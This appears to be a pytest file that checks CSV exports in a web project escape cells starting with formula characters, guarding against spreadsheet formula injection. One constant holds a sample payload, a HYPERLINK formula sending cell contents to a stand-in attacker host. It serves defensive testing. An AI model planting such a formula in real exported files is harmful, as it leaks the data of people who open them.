"""Names that a spreadsheet would take for a formula, in every table that people download."""

from __future__ import annotations

import csv
import io

import pytest

from datasets.review.progress import as_csv
from detections import csv_files
from sw_site.lib.spreadsheets import harmless
from sw_site.team import audit_views
from tests.hostile.poison import poisoned_things

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_a_text_that_would_be_a_formula_is_text(beginning):
    assert harmless(f"{beginning}1+1") == f"'{beginning}1+1"


@pytest.mark.parametrize("value", ["", "R2-D2", "a=b", -1.5, 0, None])
def test_everything_else_stays_as_it_is(value):
    assert harmless(value) is value


def test_the_table_of_progress():
    people = [{"person": FORMULA, "n": -3}, {"person": "", "n": 1}]
    rows = list(csv.reader(io.StringIO(as_csv(people, ["person", "n"]))))
    assert rows[1:] == [[f"'{FORMULA}", "-3"], ["", "1"]]


def test_the_tables_of_an_evaluation(monkeypatch):
    monkeypatch.setattr(csv_files, "classes", lambda gallery: iter([["name", "ap"], [FORMULA, 0.5]]))
    rows = list(csv.reader(io.StringIO(csv_files.csv_text(None, "classes"))))
    assert rows[1] == [f"'{FORMULA}", "0.5"]


@pytest.mark.django_db
def test_the_table_of_what_was_done():
    from sw_site.team.models import AuditEntry

    poisoned_things()
    AuditEntry.objects.update(summary=FORMULA)
    if not AuditEntry.objects.exists():
        AuditEntry.objects.create(summary=FORMULA, action="x")
    cells = [cell for line in audit_views.csv_lines(AuditEntry.objects.all()) for cell in next(csv.reader([line]))]
    assert f"'{FORMULA}" in cells and not any(cell.startswith(BEGINNINGS) for cell in cells)
